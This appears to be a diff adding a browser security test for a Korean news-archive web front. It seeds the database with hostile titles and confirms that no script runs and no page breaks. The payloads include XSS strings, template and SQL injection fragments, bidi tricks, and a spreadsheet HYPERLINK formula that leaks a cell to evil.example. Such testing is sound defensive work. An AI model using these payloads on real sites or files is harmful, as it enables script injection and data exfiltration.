@@ -1,0 +1,134 @@
+"""Rows that mean harm, in every text column that the front shows, in a real Chromium: nothing runs, nothing breaks."""
+
+from __future__ import annotations
+
+import sqlite3
+from collections.abc import Iterator
+from pathlib import Path
+from types import ModuleType
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from archive.database import Archive
+from archive.front.questions import read_questions
+from archive.items import Role, Segment
+from archive.segments import write_segments
+from pipelines.article import split_page
+from tests.archive.browser import Watch, open_browser, run_front
+from tests.archive.small_archive import add_article, add_outlet, insert
+from tests.shared import SHARED, needs_shared
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+SEEN = "2025-07-27T09:05:12"
+TITLES = {
+    "script": "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>",
+    "attribute": '" autofocus onfocus="window.pwned=1" x=\'` onmouseover=\'window.pwned=1',
+    "template": "{{ 7*7 }} {% raw %} ${7*7} %s %(x)s '); DROP TABLE article;-- [x](javascript:window.pwned=1)",
+    "right to left": "\u202e뒤집힌\u202c \u2066숨김\u2069 \u200b\u200d\ufeff의성\u2028군",
+    "one word": "빈칸없이" * 3000,
+    "a megabyte": "긴 제목 " * 100_000,
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"의성")',
+}
+MAX_OTHER_CHARS = 20_000
+LINK = "javascript:window.pwned=1"
+
+
+def create_hostile_archive(folder: Path, titles: list[str]) -> Path:
+    """Each title in each text that a page of the front shows."""
+    with Archive.open(folder, write=True) as archive, archive.transaction() as connection:
+        run = {"command": "crawl", "started_at": SEEN, "finished_at": SEEN, "exit_status": 1, "report": titles[0]}
+        run_id = insert(connection, "run", run)
+        for number, title in enumerate(titles, start=1):
+            _add_rows(connection, number, title, run_id)
+    return folder
+
+
+def _add_rows(connection: sqlite3.Connection, number: int, title: str, run_id: int) -> None:
+    outlet = f"o{number}"
+    add_outlet(connection, outlet, title)
+    names = ("deck", "reporters", "byline", "dateline", "section", "copyright")
+    words: dict[str, Any] = dict.fromkeys(names, title[:MAX_OTHER_CHARS])
+    body = f"전북 본문 {title}"
+    add_article(connection, number, title, body, outlet_id=outlet, url=LINK, revision_count=2, changed_at=SEEN, **words)
+    sha256 = connection.execute("SELECT body_sha256 FROM article WHERE id = ?", (number,)).fetchone()[0]
+    states = [(1, "앞선 본문", "then"), (2, body, sha256)]
+    for state, text, digest in states:
+        row = {"article_id": number, "number": state, "seen_at": SEEN, "change": "first" if state == 1 else "minor"}
+        revision = insert(connection, "revision", {**row, "headline": title, "body": text, "body_sha256": digest})
+    roles = (Role.HEADLINE, Role.PARAGRAPH, Role.RELATED, Role.RANKING, Role.ADVERTISEMENT, Role.SPEAKER)
+    segments = [Segment(position=i, role=role, text=title, reason=title[:80], url=LINK) for i, role in enumerate(roles)]
+    write_segments(connection, revision, body, segments)
+    of = {"article_id": number}
+    insert(connection, "quote", {**of, "position": 0, "speaker": title, "title": title, "text": title})
+    insert(connection, "reporter", {**of, "position": 0, "name": title, "email": title})
+    seen = {**of, "title": title, "url": LINK, "first_seen_at": SEEN, "last_seen_at": SEEN}
+    insert(connection, "related", {**seen, "position": 0, "target_article_id": number})
+    day = {"outlet_id": outlet, "list": title, "seen_on": SEEN[:10], "rank": 1}
+    insert(connection, "ranking", {**seen, **day, "target_article_id": number})
+    request = {"run_id": run_id, "outlet_id": outlet, "url": LINK, "at": SEEN, "kind": "article"}
+    insert(connection, "outcome", {**request, "outcome": "stored", "detail": title, "article_id": number})
+
+
+def list_paths(count: int) -> list[str]:
+    """Every kind of page that shows text of a row."""
+    tables = ("article", "outlet", "quote", "reporter", "related", "ranking", "revision", "segment", "outcome", "run")
+    articles = [f"/sosik/article/{n}?_view={v}" for n in range(1, count + 1) for v in ("read", "split", "history")]
+    return [
+        *("/", "/sosik", "/dashboard", "/search?q=전북", "/search?q=전북&order=best", "/sosik/article?_as=table"),
+        *(f"/sosik/{table}" for table in tables),
+        *("/sosik/ranking/1", "/sosik/quote/1", "/sosik/outlet/o1"),
+        *(f"/sosik/{question.id}?since=2000" for question in read_questions().questions),
+        *articles,
+    ]
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with open_browser() as browser:
+        yield browser
+
+
+def check_pages(browser: Browser, address: str, paths: list[str]) -> None:
+    """Open every page; a script that runs, a page too wide, an error or a request elsewhere is a fault."""
+    page = browser.new_page()
+    watch = Watch(page, address)
+    for path in paths:
+        response = page.goto(address + path)
+        assert response is not None
+        assert response.status == 200, path
+        for width in (1200, 360):
+            page.set_viewport_size({"width": width, "height": 800})
+            assert page.evaluate("document.documentElement.scrollWidth") <= width, path
+        assert page.evaluate("window.pwned") is None, path
+        assert page.locator("a[href^='javascript:']").count() == 0, path
+        assert watch.faults == [], path
+    page.close()
+
+
+@pytest.mark.parametrize("proves", TITLES)
+def test_hostile_rows_run_nothing_and_break_no_page(browser: Browser, tmp_path: Path, proves: str) -> None:
+    with run_front(create_hostile_archive(tmp_path, [TITLES[proves]])) as address:
+        check_pages(browser, address, list_paths(1))
+
+
+@needs_shared
+def test_pages_of_the_hostile_server_run_nothing(browser: Browser, tmp_path: Path) -> None:
+    """Its news pages, split as a crawl would, and what came out of them shown."""
+    pages = [route["make"]() for route in load_routes() if route["cat"] == "news" and "make" in route]
+    split = [split_page(page if isinstance(page, bytes) else page.encode("utf-8", "surrogatepass")) for page in pages]
+    titles = sorted({article.headline for article in split if article.headline}, key=len)
+    assert len(titles) > 8
+    with run_front(create_hostile_archive(tmp_path, titles)) as address:
+        check_pages(browser, address, list_paths(len(titles)))
+
+
+def load_routes() -> list[dict[str, Any]]:
+    """What the hostile server answers, by its own table; its file is only read."""
+    path = SHARED / "hostile.py"
+    module = ModuleType("hostile")
+    module.__file__ = str(path)
+    exec(compile(path.read_text("utf-8"), str(path), "exec"), module.__dict__)
+    return list(module.__dict__["ROUTES"].values())
